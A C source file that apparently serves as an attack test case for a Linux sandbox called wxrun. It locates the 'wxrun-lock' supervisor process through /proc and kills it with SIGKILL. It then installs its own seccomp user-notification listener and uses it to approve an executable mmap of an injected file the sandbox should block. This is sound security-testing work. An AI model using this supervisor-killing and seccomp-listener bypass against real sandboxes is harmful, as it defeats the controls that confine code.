/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A lock at a given time is kept by a process outside. Without it the calls
 * fail; but who has no supervisor may become one, and of two the kernel asks
 * the newer.
 */
#include "raw.h"

#include <linux/filter.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>

static bool is_supervisor(pid_t pid)
{
	char path[64], name[32] = "";
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	file = fopen(path, "re");
	if (!file)
		return false;
	if (!fgets(name, sizeof(name), file))
		name[0] = '\0';
	fclose(file);
	return strcmp(name, "wxrun-lock\n") == 0;
}

/* Started by wxrun, which became this program: its number is a little higher, its name late. */
static void kill_supervisor(void)
{
	for (int tries = 0; tries < 100; tries++) {
		for (pid_t pid = getppid() + 1; pid < getppid() + 100; pid++) {
			if (!is_supervisor(pid))
				continue;
			setup(kill(pid, SIGKILL));
			return;
		}
		usleep(10000);
	}
	end(BROKEN, "there is no supervisor");
}

/* Who has the descriptor is asked about mmap(). */
static int new_listener(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_mmap, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { 4, code };

	return (int)raw(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER,
			&program);
}

/* The kernel forgets the old listener in its own time. */
static int replace_listener(void)
{
	int fd, tries = 0;

	setup(prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
	while ((fd = new_listener()) < 0 && errno == EBUSY && tries < 1000) {
		if (tries++ == 0 && getenv("SUPERVISED"))
			kill_supervisor();
		usleep(1000);
	}
	return forbidden(fd);
}

static void answer_once(int listener)
{
	struct seccomp_notif call = { 0 };
	struct seccomp_notif_resp go_on = { .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };

	setup(ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &call));
	go_on.id = call.id;
	setup(ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &go_on));
}

void attack(void)
{
	int fd = handed_over("INHERITED_FILE"), listener;
	pid_t child;

	inject_file(fd, 0);
	listener = replace_listener();
	child = setup(fork());
	if (child == 0)
		run(forbidden_map(raw_map(RX, MAP_PRIVATE, fd)));
	answer_once(listener);
	finish_child(child);
	_exit(EXECUTED);
}
